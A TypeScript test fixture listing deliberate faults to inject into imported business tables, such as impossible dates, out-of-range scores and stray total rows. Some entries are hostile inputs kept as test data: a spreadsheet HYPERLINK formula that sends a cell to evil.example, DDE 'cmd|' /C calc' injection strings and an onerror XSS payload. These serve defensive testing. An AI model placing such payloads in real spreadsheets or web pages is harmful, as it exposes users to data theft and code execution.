import type { CellValue } from "../../src/contract/cells";
import type { TableKey } from "../../src/contract/tables";

/** Something wrong that is put into a table: cells of a data row (from 0) changed, or a row put before it. */
export interface Bend {
  readonly row: number;
  readonly change?: Readonly<Record<string, CellValue>>;
  readonly insert?: Readonly<Record<string, CellValue>>;
  /** Column → why its cell must be reported; absent: nothing is wrong with the row, it only looks odd. */
  readonly bad?: Readonly<Record<string, string>>;
}

/** Rows inserted come last in a table, so that the rows before keep their places. */
export const bends: Readonly<Partial<Record<TableKey, readonly Bend[]>>> = {
  kpis: [
    // Text that a spreadsheet would take for a formula, letters outside ASCII, a zero-width space: all to be kept as text.
    { row: 18, change: { name: '=HYPERLINK("https://evil.example/?x="&A1,"Contacts per 100 customers")' } },
    { row: 19, change: { name: "Wait for a web chat – “live” ☎ 客服" } },
    { row: 23, change: { direction: "sideways" }, bad: { direction: "sideways is no direction" } },
    {
      row: 24,
      insert: { id: "csat", name: "Customer satisfaction (old)", unit: "%", direction: "higher", target: 0.8 },
      bad: { id: "csat stands twice" },
    },
    {
      row: 25,
      insert: { name: "Net promoter score", unit: "points", direction: "higher", target: 30 },
      bad: { id: "no id" },
    },
  ],
  promises: [
    { row: 7, change: { due: "31/02/2026" }, bad: { due: "there is no 31 February" } },
    { row: 11, change: { by: "both of us" }, bad: { by: "neither client nor supplier" } },
    { row: 20, change: { text: "+cmd|' /C calc'!A0 (bill-run calendar for the year)" } },
  ],
  value: [
    { row: 3, change: { expected: "lots" }, bad: { expected: "an amount in words" } },
    { row: 14, change: { expected: { error: "#REF!" } }, bad: { expected: "a formula error" } },
    {
      row: 24,
      insert: { description: "Total", expected: "£1,600,000" },
      bad: { id: "a total row: no id", kind: "a total row: no kind", planned: "a total row: no date" },
    },
  ],
  invoices: [
    { row: 11, change: { amount: "see credit note" }, bad: { amount: "words where the amount belongs" } },
    { row: 180, insert: { item: "Grand total", amount: "£13,010,544.95" }, bad: { period: "a total row: no period" } },
  ],
  costs: [{ row: 40, change: { amount: { error: "#N/A" } }, bad: { amount: "a formula error" } }],
  satisfaction: [
    { row: 4, change: { score: 11 }, bad: { score: "above ten" } },
    { row: 20, change: { score: "7/10" }, bad: { score: "a fraction in text" } },
    { row: 33, change: { score: "n/a" }, bad: { score: "no score" } },
  ],
  relationship: [{ row: 12, change: { party: "consultant" }, bad: { party: "neither client nor supplier" } }],
  issues: [
    { row: 5, change: { text: "<img src=x onerror=alert(1)> Two people answer for chat at the client" } },
    { row: 9, change: { raised: "last week" }, bad: { raised: "no date" } },
  ],
  ideas: [{ row: 5, change: { stage: "brilliant" }, bad: { stage: "no stage of the funnel" } }],
  people: [{ row: 16, change: { influence: "@SUM(1+1)*cmd|' /C calc'!A0" } }],
  risks: [{ row: 6, change: { probability: "high" }, bad: { probability: "a word where 1 to 5 belongs" } }],
  recognition: [{ row: 1, change: { what: "-2+3 hours: knowledge base live on the day promised" } }],
};
